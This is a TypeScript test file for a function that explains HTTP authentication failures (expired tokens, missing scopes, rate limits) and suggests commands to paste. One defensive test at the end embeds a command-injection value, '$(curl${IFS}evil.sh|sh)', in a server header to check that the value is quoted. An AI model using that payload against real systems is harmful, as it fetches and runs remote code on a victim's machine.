import { describe, expect, it } from 'vitest';
import { explainFailure } from '../../../src/core/explain/explain.js';
import type { TokenIdentity } from '../../../src/core/identity/types.js';
import { identity as makeIdentity } from '../../support/identities.js';

/** An API-key token that is still valid, changed per test. */
const identity = (change: Partial<TokenIdentity>): TokenIdentity =>
  makeIdentity({
    profile: 'p',
    subjectKind: 'app',
    userContext: false,
    clientId: 'c',
    scopes: ['sp:scopes:all'],
    authorities: ['API'],
    expiresAt: '2030-01-01T00:00:00.000Z',
    ...change,
  });

const userOnly = { security: [{ userAuth: ['sp:scopes:all'] }], userLevels: ['ORG_ADMIN'] };
const base = {
  headers: {},
  bodyText: '{"trackingId":"abc123"}',
  now: new Date('2029-01-01T00:00:00Z'),
};

describe('explainFailure', () => {
  it('says nothing about a success', () => {
    expect(explainFailure({ ...base, status: 202, identity: identity({}) })).toBeNull();
  });

  it('403 with an app token on a user-only operation: no user context', () => {
    expect(
      explainFailure({ ...base, status: 403, identity: identity({}), operation: userOnly }),
    ).toMatchObject({
      reason: 'no_user_context',
      nextStep: expect.stringContaining('use a PAT or log in'),
    });
  });

  it('403 with a user token that lacks the scope or the level', () => {
    const scoped = { security: [{ userAuth: ['idn:access-request:manage'] }], userLevels: null };
    const user = identity({
      userContext: true,
      subjectKind: 'user',
      scopes: ['sp:scopes:default'],
      authorities: ['HELPDESK'],
    });
    expect(
      explainFailure({ ...base, status: 403, identity: user, operation: scoped })?.reason,
    ).toBe('missing_scope');
    const levelled = explainFailure({
      ...base,
      status: 403,
      identity: { ...user, scopes: ['sp:scopes:all'] },
      operation: userOnly,
    });
    expect(levelled).toMatchObject({
      reason: 'user_level',
      summary: expect.stringContaining('HELPDESK'),
    });
    const other = explainFailure({
      ...base,
      status: 403,
      identity: { ...user, authorities: ['ORG_ADMIN'], scopes: ['sp:scopes:all'] },
      operation: userOnly,
    });
    expect(other).toMatchObject({
      reason: 'forbidden',
      nextStep: expect.stringContaining('trackingId abc123'),
    });
  });

  it('401: expired by the clock, by the server, a bad signature, or just refused', () => {
    const expired = identity({ expiresAt: '2028-12-31T23:00:00.000Z' });
    expect(explainFailure({ ...base, status: 401, identity: expired })).toMatchObject({
      reason: 'expired',
      summary: expect.stringContaining('2028-12-31T23:00:00.000Z'),
    });
    const bodyText = '{"error":"JWT validation failed: JWT is expired"}';
    expect(explainFailure({ ...base, bodyText, status: 401, identity: identity({}) })?.reason).toBe(
      'expired',
    );
    expect(
      explainFailure({ ...base, status: 401, identity: identity({ signature: 'invalid' }) })
        ?.reason,
    ).toBe('signature');
    expect(explainFailure({ ...base, status: 401, identity: identity({}) })?.reason).toBe(
      'unauthorized',
    );
  });

  it('429 names the wait; 5xx blames the server', () => {
    expect(
      explainFailure({ ...base, status: 429, headers: { 'retry-after': '7' }, identity: null }),
    ).toMatchObject({
      reason: 'rate_limited',
      summary: 'rate limited by the server: retry in 7 s',
    });
    expect(explainFailure({ ...base, status: 503, identity: null })?.reason).toBe('server_error');
  });
});

describe('commands the explanation tells the user to paste', () => {
  it('quote scope names from the server, so a pasted command cannot run what they hold', () => {
    const hostile = '$(curl${IFS}evil.sh|sh)';
    const explained = explainFailure({
      ...base,
      status: 403,
      headers: {
        'www-authenticate': `Bearer error="insufficient_scope", scope="${hostile}"`,
      },
      identity: identity({ scopes: ['read'] }),
      profile: { name: 'app', grant: 'client_credentials', preset: 'generic', scopes: ['read'] },
    });
    expect(explained?.reason).toBe('missing_scope');
    expect(explained?.nextStep).toContain(
      `keyhole profiles edit app --scope read --scope '${hostile}'`,
    );
  });
});
